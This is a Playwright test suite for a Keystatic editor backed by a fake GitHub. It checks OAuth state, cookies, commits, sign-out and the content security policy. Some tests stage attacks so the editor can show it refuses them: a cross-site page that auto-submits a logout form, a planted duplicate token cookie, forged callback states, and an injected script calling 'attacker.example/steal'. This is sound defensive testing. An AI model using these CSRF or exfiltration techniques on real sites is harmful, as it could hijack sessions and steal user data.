import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, type BrowserContext, type Page, test } from "@playwright/test";
import { isLoopback, startLiveEditor } from "../test/support/editor";
import { type FakeGitHub, startFakeGitHub } from "../test/support/fake-github";

/*
 * The live editor (build/server/editor.mjs, Keystatic in GitHub mode) against a fake GitHub backed by a real
 * git repository: the browser reaches GitHub's hosts through context.route, the editor server through a
 * test-only fetch preload. Every other request outside loopback fails the test, and so does any CSP violation.
 */

test.describe.configure({ mode: "serial" });

const app = { clientId: "Iv23liFakeEditorApp", clientSecret: "fake-client-secret", secret: "2c2babedcff242b3e11f9b2241fa5338eeada956d61ca516326299b3476807ef" };
const settings = { EDITOR_REPO: "acme/site", EDITOR_BRANCH_PREFIX: "content/", KEYSTATIC_GITHUB_CLIENT_ID: app.clientId, KEYSTATIC_GITHUB_CLIENT_SECRET: app.clientSecret, KEYSTATIC_SECRET: app.secret };
let github: FakeGitHub;
let editor: Awaited<ReturnType<typeof startLiveEditor>>;

test.beforeAll(async () => {
  github = await startFakeGitHub({ owner: "acme", name: "site", clientId: app.clientId, clientSecret: app.clientSecret });
  editor = await startLiveEditor(github.url, settings);
  github.state.callbackUrl = `${editor.url}/api/keystatic/github/oauth/callback`;
});

test.afterAll(async () => {
  await editor?.stop();
  await github?.stop();
});

const githubHost = /^https:\/\/(github\.com|api\.github\.com|avatars\.githubusercontent\.com)\//;
let outside: string[] = [];
let violations: string[] = [];

/** GitHub's hosts answer from the fake; anything else outside loopback is recorded and refused. */
async function routeGitHub(context: BrowserContext) {
  await context.route((url) => !isLoopback(url.href), async (route) => {
    const url = new URL(route.request().url());
    if (!githubHost.test(url.href)) {
      outside.push(url.href);
      await route.abort("blockedbyclient");
      return;
    }
    const response = await route.fetch({ url: `${github.url}${url.pathname}${url.search}`, maxRedirects: 0 });
    await route.fulfill({ response });
  });
}

test.beforeEach(async ({ context }) => {
  test.setTimeout(60_000);
  outside = [];
  violations = [];
  await routeGitHub(context);
  // A blocked load is reported as a securitypolicyviolation event and a console error: both fail the test.
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => console.error(`CSP violation: ${event.violatedDirective} ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`));
  });
  context.on("console", (message) => {
    if (/Content Security Policy|CSP violation/i.test(message.text())) violations.push(message.text());
  });
});
test.afterEach(async ({ context }) => {
  // Keystatic may still be asking GitHub when a test ends (a save moves to the new branch and reads it again).
  // Closing the context first drops the responses route.fetch holds, and a handler between its fetch and its
  // fulfill failed the test with "Fetch response has been disposed". So close the pages first (no new requests;
  // a fulfill for a closed page is dropped quietly), then let the handlers in flight finish.
  await Promise.all(context.pages().map((page) => page.close()));
  await context.unrouteAll({ behavior: "wait" });
  expect(outside, "requests outside loopback").toEqual([]);
  expect(violations, "CSP violations").toEqual([]);
});

async function signIn(page: Page, path = "") {
  await page.goto(`${editor.url}/keystatic${path}`);
  await page.getByRole("button", { name: "Log in with GitHub" }).click();
  await expect(page.getByRole("link", { name: "Services" }).first()).toBeVisible({ timeout: 30_000 });
}

const taglineFile = "app/content/services/ux-design.json";
const branch = "content/ux-tagline";
const field = (page: Page, label: string) => page.getByRole("textbox", { name: label, exact: true });
/** The lines a commit range changed (`git diff -U0`), without the headers. */
const changed = (diff: string) => diff.split("\n").filter((line) => /^[-+](?![-+]{2} )/.test(line));

test("sign-in goes through GitHub with a state only this browser holds; the server's cookies are __Host-, the refresh token HttpOnly", async ({ page, context }) => {
  await signIn(page);
  expect(github.state.calls.slice(0, 2)).toEqual(["GET /login/oauth/authorize", "POST /login/oauth/access_token authorization_code"]);
  const cookies = Object.fromEntries((await context.cookies(editor.url)).map((cookie) => [cookie.name, cookie]));
  expect(Object.keys(cookies).sort()).toEqual(["__Host-editor-refresh", "keystatic-gh-access-token"]);
  for (const cookie of Object.values(cookies)) expect(cookie).toMatchObject({ domain: "127.0.0.1", path: "/", sameSite: "Lax", secure: true });
  expect(cookies["__Host-editor-refresh"]!.httpOnly).toBe(true);
  // The page calls GitHub with the access token itself: Keystatic needs it readable, hence the editor's own origin.
  expect(github.tokenIsValid(cookies["keystatic-gh-access-token"]!.value)).toBe(true);
});

test("a second copy of the token cookie (planted by a sibling host) is never used: the page hides both, the server refuses the request", async ({ page, context }) => {
  await signIn(page);
  // Another host of the domain sets the name with a longer path: the browser lists that copy first.
  await context.addCookies([{ name: "keystatic-gh-access-token", value: "ghu_planted", domain: "127.0.0.1", path: "/keystatic", sameSite: "Lax" }]);
  expect(await page.evaluate(() => document.cookie)).not.toContain("keystatic-gh-access-token");
  const response = await page.goto(`${editor.url}/keystatic`);
  expect(response!.status()).toBe(400);
  await expect(page.getByText("this browser sent two cookies named keystatic-gh-access-token")).toBeVisible();
  expect(github.state.calls.filter((call) => call.includes("(unauthenticated)"))).toEqual([]);
  await context.clearCookies({ name: "keystatic-gh-access-token", path: "/keystatic" });
});

test("a GitHub answer without this browser's state is refused, and its code is never exchanged", async ({ request }) => {
  const callback = `${editor.url}/api/keystatic/github/oauth/callback`;
  const exchanges = () => github.state.calls.filter((call) => call.startsWith("POST /login/oauth/access_token")).length;
  const before = exchanges();
  for (const [query, cookie] of [
    ["code=abc123", undefined],
    ["code=abc123&state=0123456789abcdef0123", undefined],
    ["code=abc123&state=0123456789abcdef0123456789abcdef01234567", "__Host-editor-oauth-state=fedcba9876543210fedcba9876543210fedcba98"],
    ["code=abc123&state=0123456789abcdef0123456789abcdef01234567", "editor-oauth-state=0123456789abcdef0123456789abcdef01234567"],
    ["code=abc123&state=", "__Host-editor-oauth-state="],
  ] as const) {
    for (const path of [callback, callback.replace("/oauth/callback", "//oauth/callback/")]) {
      const response = await request.get(`${path}?${query}`, { headers: cookie ? { cookie } : {}, maxRedirects: 0 });
      expect(response.status(), `${path}?${query} with ${cookie}`).toBe(403);
      expect(response.headers()["set-cookie"] ?? "").not.toContain("keystatic-gh-access-token");
    }
  }
  expect(exchanges()).toBe(before);
});

test("a saved tagline on protected main goes to a new branch as one commit of one line", async ({ page }) => {
  await signIn(page, "/branch/main/collection/services/item/ux-design");
  const text = "Products people understand at first use, grounded in research and tested with real users first.";
  await field(page, "Tagline").fill(text);
  await page.getByRole("button", { name: "Save" }).click();
  // GitHub refuses a commit on main: Keystatic offers a branch (with the configured prefix).
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByText("Changes must be made via pull request to this branch")).toBeVisible();
  await dialog.getByRole("textbox", { name: "Branch name" }).fill(branch.replace("content/", ""));
  await dialog.getByRole("textbox", { name: "Branch name" }).press("Enter");
  await expect.poll(() => github.head(branch), { timeout: 15_000 }).toBeTruthy();
  await expect.poll(() => github.log(branch)[0]).toBe("Update services/ux-design");
  expect(github.diff("main", branch).match(/^diff --git .*/gm)).toEqual([`diff --git a/${taglineFile} b/${taglineFile}`]);
  expect(changed(github.diff("main", branch))).toEqual([expect.stringMatching(/^- {2}"tagline": "Design products/), `+  "tagline": "${text}",`]);
  expect(github.log("main")).toEqual(["Initial content"]);
});

test("the branch's pull request is shown, and a save after another editor's commit on the branch keeps both", async ({ page }) => {
  const number = github.openPullRequest(branch);
  await signIn(page, `/branch/${encodeURIComponent(branch)}/collection/services/item/ux-design`);
  await expect(page.getByRole("combobox", { name: "Current branch" })).toHaveValue(branch);
  await page.getByRole("button", { name: "git actions" }).click();
  await expect(page.getByRole("menuitem", { name: `Pull Request #${number}` })).toBeVisible();
  await page.keyboard.press("Escape");

  // Another editor commits to the same branch while this page is open (another page's file).
  github.commitAs(branch, "Update services/cloud-migration", "app/content/services/cloud-migration.json", github.show(branch, "app/content/services/cloud-migration.json").replace('"Cloud Migration"', '"Cloud Migrations"') + "\n");
  const theirs = github.head(branch);
  const text = "Products people understand at first use, grounded in research and tested with real people early.";
  await field(page, "Tagline").fill(text);
  await page.getByRole("button", { name: "Save" }).click();
  // Keystatic's commit names the head it saw: GitHub answers STALE_DATA, Keystatic sees the entry unchanged and retries.
  await expect.poll(() => github.log(branch)[0], { timeout: 15_000 }).toBe("Update services/ux-design");
  expect(github.log(branch).slice(0, 3)).toEqual(["Update services/ux-design", "Update services/cloud-migration", "Update services/ux-design"]);
  expect(changed(github.diff(theirs!, branch))).toEqual([expect.stringMatching(/^- {2}"tagline": "Products/), `+  "tagline": "${text}",`]);
  expect(github.show(branch, "app/content/services/cloud-migration.json")).toContain('"Cloud Migrations"');
});

test("a value the schema refuses cannot be saved: nothing is committed", async ({ page }) => {
  await signIn(page, `/branch/${encodeURIComponent(branch)}/collection/services/item/cloud-migration`);
  const head = github.head(branch);
  const commits = () => github.state.calls.filter((call) => call.endsWith(" CreateCommit")).length;
  const tried = commits();
  await field(page, "Summary").fill("Too short for a card.");
  await page.getByRole("button", { name: "Save" }).click();
  await expect(page.getByText("Too small: expected string to have >=60 characters")).toBeVisible();
  await page.waitForTimeout(1000);
  expect(commits(), "commits sent to GitHub").toBe(tried);
  expect(github.head(branch)).toBe(head);
});

test("when the access token has expired, the editor gets a new one with the refresh token", async ({ page, context }) => {
  await signIn(page);
  const old = (await context.cookies(editor.url)).find((cookie) => cookie.name === "keystatic-gh-access-token")!.value;
  await context.clearCookies({ name: "keystatic-gh-access-token" });
  await page.goto(`${editor.url}/keystatic/branch/main/singleton/home`);
  await expect(page.getByRole("button", { name: "Save" })).toBeVisible({ timeout: 30_000 });
  const renewed = (await context.cookies(editor.url)).find((cookie) => cookie.name === "keystatic-gh-access-token")!.value;
  expect(renewed).not.toBe(old);
  expect(github.state.calls).toContain("POST /login/oauth/access_token refresh_token");
  expect(github.tokenIsValid(renewed)).toBe(true);
});

test("signing out asks first, then ends the whole grant at GitHub: a copy of the refresh cookie buys nothing afterwards", async ({ page, context, request }) => {
  await signIn(page);
  const refresh = (await context.cookies(editor.url)).find((cookie) => cookie.name === "__Host-editor-refresh")!;
  await page.getByRole("button", { name: "User menu" }).click();
  await page.getByRole("menuitem", { name: "Log out" }).click();
  // Keystatic's menu item is a plain link (a GET): it only asks.
  await expect(page.getByRole("heading", { name: "Sign out?" })).toBeVisible();
  expect(github.liveTokens("content-editor")).toBeGreaterThan(0);
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page.getByRole("heading", { name: "You are signed out" })).toBeVisible();
  await expect(page.getByText("Your GitHub sign-in for the editor has been ended.")).toBeVisible();
  expect(await context.cookies(editor.url)).toEqual([]);
  expect(github.liveTokens("content-editor")).toBe(0);
  const replay = await request.post(`${editor.url}/api/keystatic/github/refresh-token`, { headers: { cookie: `${refresh.name}=${refresh.value}`, origin: editor.url } });
  expect(replay.status()).toBe(401);
});

test("another site cannot sign an editor out: its GET only shows the question, its POST is refused", async ({ page, context }) => {
  await signIn(page);
  const before = await context.cookies(editor.url);
  // A page on another site (localhost is not 127.0.0.1) that sends the browser to sign-out both ways.
  const attacker = createServer((_req, res) => {
    res.writeHead(200, { "content-type": "text/html" }).end(`<img src="${editor.url}/api/keystatic/github/logout"><form method="post" action="${editor.url}/api/keystatic/github/logout"></form><script>setTimeout(() => document.forms[0].submit(), 300)</script>`);
  });
  await new Promise<void>((ready) => attacker.listen(0, "localhost", ready));
  try {
    const posted = page.waitForResponse(`${editor.url}/api/keystatic/github/logout`);
    await page.goto(`http://localhost:${(attacker.address() as AddressInfo).port}/`);
    expect((await posted).status()).toBe(403);
  } finally {
    attacker.close();
  }
  expect((await context.cookies(editor.url)).map((cookie) => cookie.value).sort()).toEqual(before.map((cookie) => cookie.value).sort());
  expect(github.tokenIsValid(before.find((cookie) => cookie.name === "keystatic-gh-access-token")!.value)).toBe(true);
});

test("the editor's page holds a strict CSP, which the browser enforces", async ({ page }) => {
  const response = await page.goto(`${editor.url}/keystatic`);
  expect(response!.headers()["content-security-policy"]).toBe(
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: https://avatars.githubusercontent.com; connect-src 'self' https://api.github.com; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'",
  );
  // An injected inline script does not run, and a call to any other host is refused before it leaves.
  const ran = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.injected = true";
    document.head.append(script);
    const fetched = await fetch("https://attacker.example/steal").then(() => true, () => false);
    return { script: "injected" in window, fetched };
  });
  expect(ran).toEqual({ script: false, fetched: false });
  const events = () => violations.filter((text) => text.startsWith("CSP violation:"));
  await expect.poll(() => events().length).toBe(2);
  expect(events()).toEqual([expect.stringContaining("script-src-elem inline"), expect.stringContaining("connect-src https://attacker.example/steal")]);
  expect(outside, "refused by the CSP, not by the test's router").toEqual([]);
  violations = [];
});

test("with EDITOR_ALLOWED_USERS (login:id), anyone else is refused at sign-in, a taken-over login too, and their grant deleted", async ({ page, context }) => {
  const restricted = await startLiveEditor(github.url, { ...settings, EDITOR_ALLOWED_USERS: "Someone-Else:5, another-editor:1002" });
  expect(restricted.output()).toContain('"allowedUsers":2');
  const callbackUrl = github.state.callbackUrl;
  github.state.callbackUrl = `${restricted.url}/api/keystatic/github/oauth/callback`;
  try {
    await page.goto(`${restricted.url}/keystatic`);
    await page.getByRole("button", { name: "Log in with GitHub" }).click();
    await expect(page.getByText("Sign-in refused: content-editor is not one of the editor's users")).toBeVisible();
    expect(await context.cookies(restricted.url)).toEqual([]);
    // The grant is deleted: no token of that account for the app is left, whichever browser held it.
    expect(github.liveTokens("content-editor")).toBe(0);

    // Someone who took over the listed login after a rename: another account id, refused.
    github.state.signInAs = "another-editor";
    github.state.ids["another-editor"] = 3003;
    await page.goto(`${restricted.url}/keystatic`);
    await page.getByRole("button", { name: "Log in with GitHub" }).click();
    await expect(page.getByText("Sign-in refused: another-editor is not one of the editor's users")).toBeVisible();
    expect(await context.cookies(restricted.url)).toEqual([]);

    github.state.ids["another-editor"] = 1002;
    await page.goto(`${restricted.url}/keystatic`);
    await page.getByRole("button", { name: "Log in with GitHub" }).click();
    await expect(page.getByRole("link", { name: "Services" }).first()).toBeVisible({ timeout: 30_000 });
  } finally {
    github.state.ids["another-editor"] = 1002;
    github.state.signInAs = "content-editor";
    github.state.callbackUrl = callbackUrl;
    await restricted.stop();
  }
});

test("a port already in use stops the editor with one clear line, not a stack trace", async () => {
  const taken = new URL(editor.url).port;
  const started = startLiveEditor(github.url, { ...settings, EDITOR_PORT: taken });
  await expect(started).rejects.toThrow(`The editor cannot start: 127.0.0.1:${taken} is in use. Set EDITOR_HOST and EDITOR_PORT.`);
  await expect(started).rejects.not.toThrow(/node:events|Unhandled 'error' event|\n\s+at /);
});

test("no test code is in the production build: the fake GitHub and the fetch preload stay in test/support", () => {
  const traces: string[] = [];
  const walk = (path: string) => {
    if (statSync(path).isDirectory()) return readdirSync(path).forEach((name) => walk(join(path, name)));
    if (/\.(br|gz|png|webp|ico)$/.test(path)) return;
    if (/FAKE_GITHUB_URL|github-fetch-preload|fake-github|test\/support|graphql-schema/.test(readFileSync(path, "utf8"))) traces.push(path);
  };
  for (const dir of ["build/client", "build/server", "build/editor"]) walk(dir);
  expect(traces).toEqual([]);
});
